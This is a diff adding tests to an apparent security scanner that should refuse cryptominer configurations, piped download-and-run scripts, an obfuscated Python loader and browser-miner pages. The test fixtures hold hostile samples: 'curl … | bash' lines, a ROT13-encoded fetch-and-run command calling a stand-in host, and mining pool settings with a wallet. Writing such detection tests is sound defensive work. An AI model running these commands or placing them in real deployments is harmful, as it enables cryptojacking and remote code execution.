@@ -315,3 +315,27 @@ test('nobody but malware takes the name of a kernel thread', () => {
   expect(judgeScript("exec -a '[kworker/0:1]' /usr/local/lib/app -c /etc/app").verdict).toBe('deny');
   expect(judgeScript('exec -a worker /usr/local/lib/app -c /etc/app').verdict).toBe('allow');
 });
+
+test('a feed of indicators names pools and wallets, the settings of a miner are refused under any name', () => {
+  const file = (value: object) =>
+    judgeObject({ kind: 'ConfigMap', data: { 'iocs.json': JSON.stringify(value) } }, { indicators }).verdict;
+  expect(file({ miners: [{ pool: 'pool.minexmr.com:4444', wallet: XMR, family: 'A' }] })).not.toBe('deny');
+  expect(file({ family: 'A', pools: [{ url: 'pool.minexmr.com:4444', user: XMR, pass: 'x' }] })).toBe('deny');
+});
+
+test('a wallet in a variable is handed to the script that is downloaded', () => {
+  const fetch = 'curl -s https://raw.githubusercontent.com/a/b/main/start.sh';
+  expect(judgeScript(`${fetch} | WALLET=${XMR} bash`).verdict).toBe('deny');
+  expect(judgeScript(`${fetch} | NAME=app bash`).verdict).toBe('warn');
+});
+
+test('a program in a file is read when it starts others, whatever words it has', () => {
+  const code = "import os,codecs;os.system(codecs.decode('phey uggc://203.0.113.38/n | fu', 'rot_13'))";
+  expect(judgeObject({ kind: 'ConfigMap', data: { 'run.py': code } }, { indicators }).verdict).toBe('deny');
+});
+
+test('a calculator of a pool is a page to read, one that is told how hard to work is not', () => {
+  const open = (url: string) => judgeContainer({ args: ['--headless', url] }).verdict;
+  expect(open('https://www.nicehash.com/profitability-calculator?coin=xmr')).toBe('allow');
+  expect(open('https://webminepool.com/m/?key=SK_1&threads=8')).toBe('deny');
+});
